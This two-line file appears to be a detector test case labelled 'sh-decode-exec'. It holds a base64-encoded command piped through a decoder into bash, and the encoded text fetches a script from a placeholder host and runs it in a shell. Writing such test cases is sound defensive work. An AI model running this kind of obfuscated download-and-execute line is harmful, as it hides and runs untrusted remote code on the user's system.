# expect: sh-decode-exec
echo Y3VybCBodHRwOi8veC5leGFtcGxlIHwgc2gK | base64 -d | bash
